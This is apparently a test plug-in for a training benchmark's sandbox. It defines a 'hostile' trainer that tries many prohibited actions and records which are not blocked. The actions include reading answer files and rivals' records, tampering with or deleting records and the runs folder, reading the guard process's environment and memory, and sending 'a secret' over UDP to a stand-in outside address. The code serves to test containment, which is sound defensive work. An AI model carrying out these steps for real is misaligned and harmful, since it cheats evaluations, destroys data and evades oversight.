"""Trainers that attack the bench: each tries what it can and leaves the start model."""

from __future__ import annotations

import json
import os
import shutil
import socket
from pathlib import Path

from harness import Options, Run, Trainer, hookimpl


class HostileOptions(Options):
    port: int = 0  # on this machine, where somebody listens
    # what it knows of the runs folder; it need not list it
    rival: str = ""  # a file of another stage
    record: str = ""
    answers: str = ""
    data: str = ""


def attempts(run: Run) -> dict[str, object]:
    """Return what is tried, by name; what is refused raises."""
    stage = run.scratch.parent
    board = stage.parents[1]
    project = board.parents[1]
    rival, record = Path(run.options.rival), Path(run.options.record)

    def connect() -> None:
        with socket.create_connection(("127.0.0.1", run.options.port), timeout=5):
            pass

    def resolve() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sent:
            sent.connect(("192.0.2.1", 53))
            sent.send(b"a secret")

    def link() -> None:
        (run.scratch / "link").symlink_to(record)
        (run.scratch / "link").read_text()

    def move() -> None:
        os.rename(record, run.scratch / "stolen")

    def hard_link() -> None:
        os.link(record, run.scratch / "linked")

    return {
        "list the runs": lambda: list(board.iterdir()),
        "read a rival's stage": lambda: rival.read_text(),
        "read a record": lambda: record.read_text(),
        "read answers": lambda: Path(run.options.answers).read_text(),
        "read through a link": link,
        "write to the data": lambda: Path(run.options.data).open("a"),
        "write to a rival's stage": lambda: rival.open("a"),
        "write to a record": lambda: record.open("a"),
        "truncate a record": lambda: os.truncate(record, 0),
        "move a record": move,
        "link to a record": hard_link,
        "remove a record": lambda: record.unlink(),
        "make a record": lambda: (board / "records" / "new.json").touch(),
        "remove the runs": lambda: shutil.rmtree(board),
        "read the project": lambda: (project / "small.toml").read_text(),
        "write to the project": lambda: (project / "new").touch(),
        "write to the plug-in": lambda: Path(__file__).open("a"),
        "write to the start model": lambda: (run.base_model / "config.json").open("a"),
        "read another's home": lambda: list(Path("/root").iterdir()),
        "connect": connect,
        "resolve": resolve,
        "signal the guard": lambda: os.kill(os.getppid(), 0),
        "read the guard's variables": lambda: Path(f"/proc/{os.getppid()}/environ").read_text(),
        "read the guard's memory": lambda: Path(f"/proc/{os.getppid()}/mem").open("rb").read(1),
        "make a device": lambda: os.mknod(run.scratch / "device", 0o20666, os.makedev(1, 5)),
    }


def probe(run: Run) -> None:
    """Try everything, and note what was not refused."""
    done = []
    for name, attempt in attempts(run).items():
        try:
            attempt()
            done.append(name)
        except (OSError, StopIteration) as error:
            print(name, type(error).__name__, error)  # noqa: T201 (the log is the test's)
    run.note(done=done, variables=sorted(os.environ), long="x" * 100_000)
    (run.scratch / "own").write_text("may be written")
    allowed = json.loads((run.base_model / "config.json").read_text())
    run.note(allowed=bool(allowed), made=made(run))
    shutil.copytree(run.base_model, run.scratch.parent / "checkpoint", dirs_exist_ok=True)


def made(run: Run) -> int:
    """Return how many rows data sets have that honest trainers make of files and generators."""
    import datasets

    (run.scratch / "rows.jsonl").write_text('{"a": 1}\n')
    read = datasets.load_dataset("json", data_files=str(run.scratch / "rows.jsonl"), split="train")
    return len(read) + len(datasets.Dataset.from_generator(lambda: iter([{"a": 1}])))


@hookimpl
def harness_trainers():
    return [Trainer("hostile", probe, HostileOptions, "tries everything")]
